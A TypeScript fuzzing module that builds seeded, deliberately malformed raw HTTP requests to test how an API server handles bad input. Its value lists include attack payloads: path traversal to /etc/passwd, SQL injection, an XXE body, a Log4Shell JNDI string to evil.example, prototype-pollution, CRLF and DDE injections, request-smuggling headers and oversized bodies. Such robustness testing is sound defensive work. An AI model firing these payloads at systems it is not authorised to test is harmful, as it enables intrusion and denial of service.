import { randomFrom, type Random } from './random';

/** An address of the API with its method, such as an OpenAPI document lists them. */
export interface Operation {
  method: string;
  /** With its parameters in braces: '/api/products/{id}'. */
  path: string;
  /** A body that is accepted, whose fields are spoiled. */
  body?: Record<string, unknown>;
}

/** What is sent, byte for byte, and what is odd about it, in words. */
export interface BadRequest {
  bytes: Buffer;
  method: string;
  oddities: string[];
}

interface Draft {
  method: string;
  path: string;
  query: string[];
  headers: string[];
  body: Buffer | undefined;
  operation: Operation;
}

interface Oddity {
  name: string;
  apply(draft: Draft, random: Random): void;
}

interface Settings {
  count: number;
  seed: number;
  host: string;
  /** Headers of which one goes with each request: 'Cookie: …', 'Authorization: …'. '' is nobody. */
  credentials: readonly string[];
}

/**
 * Requests that no program should send: each is one of the operations with one to three things that are odd about it.
 * The same seed makes the same requests.
 */
export function badRequests(
  operations: readonly Operation[],
  { count, seed, host, credentials }: Settings,
): BadRequest[] {
  const random = randomFrom(seed);
  return Array.from({ length: count }, () => {
    const operation = random.pick(operations);
    const draft: Draft = {
      operation,
      method: operation.method,
      path: operation.path.replaceAll(/\{\w+\}/g, () => (random.chance(0.5) ? '1' : random.pick(SEGMENTS))),
      query: [],
      headers: [`Host: ${host}`, 'Connection: close'],
      body: operation.body === undefined ? undefined : Buffer.from(JSON.stringify(operation.body)),
    };
    const credential = random.pick(credentials);
    if (credential !== '') draft.headers.push(credential);
    if (draft.body !== undefined) draft.headers.push('Content-Type: application/json');
    const oddities = Array.from({ length: random.upTo(3) }, () => random.pick(ODDITIES));
    for (const oddity of oddities) oddity.apply(draft, random);
    return { bytes: written(draft), method: draft.method, oddities: oddities.map(({ name }) => name) };
  });
}

function written({ method, path, query, headers, body }: Draft): Buffer {
  const target = query.length === 0 ? path : `${path}?${query.join('&')}`;
  const saysLength = headers.some((header) => LENGTH.test(header));
  const length = body === undefined || saysLength ? [] : [`Content-Length: ${body.length}`];
  const head = [`${method} ${target} HTTP/1.1`, ...headers, ...length, '', ''].join('\r\n');
  return Buffer.concat([Buffer.from(head, 'latin1'), body ?? Buffer.alloc(0)]);
}

const LENGTH = /^(content-length|transfer-encoding)\s*:/i;

/** Parts of a path, as they stand in a request line. */
const SEGMENTS = [
  '0',
  '-1',
  '01',
  '1.0',
  '1e3',
  '0x10',
  'NaN',
  'null',
  'undefined',
  'true',
  '2147483648',
  '9007199254740993',
  '99999999999999999999999999',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '%00',
  'a%00b',
  '%2F',
  '1%2Fstock',
  '..%2F..%2Fetc%2Fpasswd',
  '%5C',
  '%',
  '%zz',
  '%E0%A4%A',
  '%C0%AF',
  '%ED%A0%80',
  '%F0%9F%94%91',
  '%D9%A1',
  '%0D%0AX-Odd:%201',
  '%E2%80%A8',
  "1'%20OR%20'1'='1",
  '1;DROP%20TABLE%20products',
  '%25%32%66',
  '*',
  ':id',
  '$',
  '{id}',
  '<script>',
  '"',
  '|',
  '^',
  '`',
  '~',
  'a'.repeat(3_000),
  '%61'.repeat(500),
];

const NAMES = [
  'page',
  'pageSize',
  'q',
  'category',
  'brand',
  'make',
  'sort',
  'state',
  'from',
  'inStock',
  'cursor',
  'index',
  '_data',
  '_routes',
  '__proto__',
  'constructor',
  'a[b][c]',
  'a.b',
  '',
  '%00',
  '%',
];

const METHODS = [
  ...['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE'],
  ...['PROPFIND', 'MKCOL', 'SEARCH', 'PURGE', 'M-SEARCH', 'LOCK', 'get', 'Post', 'FOO', 'G\0T', ''],
];

/** Names of headers that something here or on the way may read. */
const HEADERS = [
  'Accept',
  'Accept-Charset',
  'Accept-Encoding',
  'Accept-Language',
  'Access-Control-Request-Method',
  'Authorization',
  'Content-Encoding',
  'Content-Language',
  'Content-Type',
  'Cookie',
  'Date',
  'Expect',
  'Forwarded',
  'Idempotency-Key',
  'If-Match',
  'If-Modified-Since',
  'If-None-Match',
  'If-Range',
  'If-Unmodified-Since',
  'Max-Forwards',
  'Origin',
  'Prefer',
  'Range',
  'Referer',
  'Sec-Fetch-Mode',
  'Sec-Fetch-Site',
  'TE',
  'Upgrade',
  'User-Agent',
  'Via',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Forwarded-Proto',
  'X-HTTP-Method-Override',
  'X-Remix-Response',
  'X-Requested-With',
];

const VALUES = [
  '',
  ' ',
  '*',
  '*/*;q=nonsense',
  ',,,;;;===',
  'gzip, br;q=9, *;q=-1',
  'bytes=9-1',
  'bytes=0-0,1-1,2-2',
  'W/"',
  '"a", W/"b", *',
  'Mon, 99 Foo 2026 25:61:61 GMT',
  'Bearer',
  'Bearer a b c',
  'Bearer kw_wrong',
  'bearer \xff\xfe',
  'Basic YWRtaW46a2V5d2F5LWRlbW8=',
  'Digest x="',
  'keyway_session=%',
  'keyway_session=eyJhIjo=; keyway_session="',
  '__proto__=1; constructor=2',
  'null',
  'https://evil.example',
  'http://[::1',
  'cross-site',
  '100-continue-or-not',
  'h2c',
  'DELETE',
  'localhost, localhost, %00',
  '127.0.0.1, unknown, _hidden, "[2001:db8::1]"',
  '9'.repeat(400),
  'x'.repeat(6_000),
  '\xe9\xe8\xff',
  '{"a":1}',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
];

const TYPES = [
  '',
  'text/plain',
  'text/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1',
  'application/json; charset="',
  'application/json;;;',
  'APPLICATION/JSON',
  'application/json, text/plain',
  'application/jsonx',
  'application/merge-patch+json',
  '/',
  'application/json\x0b',
];

/** Bodies that are no JSON, or JSON that is no object. */
const BODIES: readonly (string | Buffer)[] = [
  '',
  ' ',
  '{',
  '}',
  '{"a":1,}',
  "{'a':1}",
  '{"a":1}{"a":1}',
  '{a:1}',
  '{"a":01}',
  '{"a":NaN}',
  '{"a":"\n"}',
  '{"a":"\\x"}',
  '"',
  '\0',
  'null',
  'true',
  '0',
  '-',
  '1e999',
  '[]',
  '[[]]',
  '[{},{}]',
  '"text"',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"":{"":{"":""}}}',
  'name=Key&price=1',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '['.repeat(40_000),
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  `{${Array.from({ length: 4_000 }, (_, index) => `"key${index}":${index}`).join()}}`,
  `{"a":${'9'.repeat(50_000)}}`,
  `"${'x'.repeat(101 * 1024)}"`,
  Buffer.from('\ufeff{"name":"Key"}'),
  Buffer.from('{"name":"Key"}', 'utf16le'),
  Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
  Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]),
];

/** Values of a field, as JSON text: some of them no JSON.stringify would write. */
const FIELD_VALUES = [
  'null',
  'true',
  '""',
  '" "',
  '0',
  '-0',
  '-1',
  '1.5',
  '0.1e1',
  '1e21',
  '1e308',
  '1e999',
  '-1e999',
  '9007199254740993',
  '99999999999999999999999999999999',
  '"1e3"',
  '"0x10"',
  '"NaN"',
  '"Infinity"',
  '"1,000.00"',
  '"\\u0000"',
  '"a\\u0000b"',
  '"\\ud800"',
  '"\\u202e\\u200b"',
  '"\\r\\nX-Odd: 1"',
  '"<script>alert(1)</script>"',
  '"\'; DROP TABLE products; --"',
  '"=cmd|\' /C calc\'!A0"',
  '"4111 1111 1111 1111"',
  '"2026-13-45T99:99:99.000Z"',
  '"0001-01-01T00:00:00.000Z"',
  `"${'x'.repeat(20_000)}"`,
  `"${'\u{1f511}'.repeat(2_000)}"`,
  '[]',
  '[null]',
  '["a","a"]',
  `[${'0,'.repeat(5_000)}0]`,
  '{}',
  '{"__proto__":{"a":1}}',
  '{"toString":1,"valueOf":1,"length":-1}',
  '{"$gt":""}',
  `${'['.repeat(500)}${']'.repeat(500)}`,
];

const ODDITIES: readonly Oddity[] = [
  { name: 'another method', apply: (draft, random) => (draft.method = random.pick(METHODS)) },
  {
    name: 'a part of the path',
    apply: (draft, random) => {
      draft.path = below(draft.path, (rest) => {
        const parts = rest.split('/');
        parts[random.between(0, parts.length - 1)] = random.pick(SEGMENTS);
        return parts.join('/');
      });
    },
  },
  { name: 'a part too many', apply: (draft, random) => (draft.path += `/${random.pick(SEGMENTS)}`) },
  {
    name: 'double slashes',
    apply: (draft) => (draft.path = below(draft.path, (rest) => `/${rest.replaceAll('/', '//')}`)),
  },
  {
    name: 'slashes at the end',
    apply: (draft, random) => (draft.path += '/'.repeat(random.upTo(50))),
  },
  {
    name: 'dots',
    apply: (draft, random) => {
      draft.path += random.pick([
        '/.',
        '/..',
        '/../..',
        '/%2e%2e',
        '/..;/x',
        '/.%2E/products',
        '/....//',
        '.',
      ]);
    },
  },
  {
    name: 'backslashes',
    apply: (draft) => (draft.path = below(draft.path, (rest) => `x/${rest}`.replaceAll('/', '\\'))),
  },
  { name: 'upper case', apply: (draft) => (draft.path = below(draft.path, (rest) => rest.toUpperCase())) },
  {
    name: 'an end of the path',
    apply: (draft, random) => {
      draft.path += random.pick([
        '.data',
        '.json',
        '.php',
        ';v=1',
        '#part',
        '%23',
        '%3f',
        '%20',
        '\t',
        '\xa0',
        '&a=1',
      ]);
    },
  },
  { name: 'a space in the address', apply: (draft) => (draft.path += ' x') },
  {
    name: 'a whole URL',
    apply: (draft) => (draft.path = draft.path.replace(/^(?=\/)/, 'http://evil.example')),
  },
  { name: 'a long address', apply: (draft) => (draft.path += `/${'long'.repeat(2_500)}`) },
  { name: 'an endless address', apply: (draft) => (draft.path += `/${'long'.repeat(6_000)}`) },
  {
    name: 'a query',
    apply: (draft, random) => {
      for (let left = random.upTo(4); left > 0; left -= 1)
        draft.query.push(`${random.pick(NAMES)}=${random.pick(SEGMENTS).slice(0, 200)}`);
    },
  },
  {
    name: 'a query of many parts',
    apply: (draft, random) =>
      draft.query.push(...Array.from({ length: 500 }, () => `${random.pick(NAMES)}=1`)),
  },
  {
    name: 'a header',
    apply: (draft, random) => draft.headers.push(`${random.pick(HEADERS)}: ${random.pick(VALUES)}`),
  },
  {
    name: 'a header twice',
    apply: (draft, random) => {
      const name = random.pick(HEADERS);
      draft.headers.push(`${name}: ${random.pick(VALUES)}`, `${name}: ${random.pick(VALUES)}`);
    },
  },
  {
    name: 'a header that is none',
    apply: (draft, random) =>
      draft.headers.push(
        random.pick(['no colon', 'Odd Name: 1', ': 1', 'X-\0: 1', 'X: a\0b', ' folded: 1', 'X: \x7f']),
      ),
  },
  {
    name: 'many headers',
    apply: (draft) =>
      draft.headers.push(...Array.from({ length: 300 }, (_, index) => `X-${index}: ${index}`)),
  },
  { name: 'a header too large', apply: (draft) => draft.headers.push(`X-Large: ${'x'.repeat(20_000)}`) },
  {
    name: 'another host',
    apply: (draft, random) => {
      const host = random.pick(['Host: evil.example', 'Host:', 'Host: 127.0.0.1:0@evil', 'X-No-Host: 1']);
      draft.headers = draft.headers.map((header) => (header.startsWith('Host:') ? host : header));
    },
  },
  { name: 'two hosts', apply: (draft) => draft.headers.push('Host: evil.example') },
  {
    name: 'another type',
    apply: (draft, random) => {
      draft.headers = draft.headers.filter((header) => !header.startsWith('Content-Type:'));
      draft.headers.push(`Content-Type: ${random.pick(TYPES)}`);
    },
  },
  {
    name: 'a wrong length',
    apply: (draft, random) => {
      draft.body ??= Buffer.from('{}');
      draft.headers.push(
        `Content-Length: ${random.pick(['abc', '-1', '1', '1e1', '0x1', '1, 1', '9'.repeat(30)])}`,
      );
    },
  },
  {
    name: 'broken chunks',
    apply: (draft, random) => {
      draft.headers.push('Transfer-Encoding: chunked');
      draft.body = Buffer.from(
        random.pick(['zz\r\n', '2\r\n{}\r\n0\r\n\r\n', '-1\r\n\r\n', '2;x=y\r\n{}xx', '0\r\n\r\n']),
      );
    },
  },
  {
    name: 'a length and chunks',
    apply: (draft) => {
      draft.headers.push('Transfer-Encoding: chunked', 'Content-Length: 5');
      draft.body = Buffer.from('0\r\n\r\n');
    },
  },
  {
    name: 'another body',
    apply: (draft, random) => {
      const body = random.pick(BODIES);
      setBody(draft, Buffer.isBuffer(body) ? body : Buffer.from(body));
    },
  },
  { name: 'a spoiled field', apply: spoilField },
  { name: 'spoiled fields', apply: (draft, random) => [1, 2, 3].forEach(() => spoilField(draft, random)) },
  {
    name: 'a field too many',
    apply: (draft, random) => spoil(draft, random.pick(NAMES), random.pick(FIELD_VALUES)),
  },
];

/** Changes what is below '/api/', so that it is a request to the API still. */
function below(path: string, change: (rest: string) => string): string {
  const [, start = '', rest = ''] = /^(.*?\/api\/)(.*)$/s.exec(path) ?? [undefined, path];
  return start + change(rest);
}

/** Puts something odd in the place of one field of a body that would have been accepted. */
function spoilField(draft: Draft, random: Random): void {
  const names = Object.keys(draft.operation.body ?? {});
  spoil(draft, names.length === 0 ? random.pick(NAMES) : random.pick(names), random.pick(FIELD_VALUES));
}

/** The last of two fields of the same name is the one that counts. */
function spoil(draft: Draft, name: string, value: string): void {
  const whole = draft.body?.toString() ?? '{}';
  const start = whole.startsWith('{') && whole.endsWith('}') ? whole.slice(0, -1) : '{';
  setBody(draft, Buffer.from(`${start}${start === '{' ? '' : ','}${JSON.stringify(name)}:${value}}`));
  if (!draft.headers.some((header) => header.startsWith('Content-Type:')))
    draft.headers.push('Content-Type: application/json');
}

/** A body with its right length: of a request that never ends the server can only say so after half a minute. */
function setBody(draft: Draft, body: Buffer): void {
  draft.body = body;
  draft.headers = draft.headers.filter((header) => !LENGTH.test(header));
}
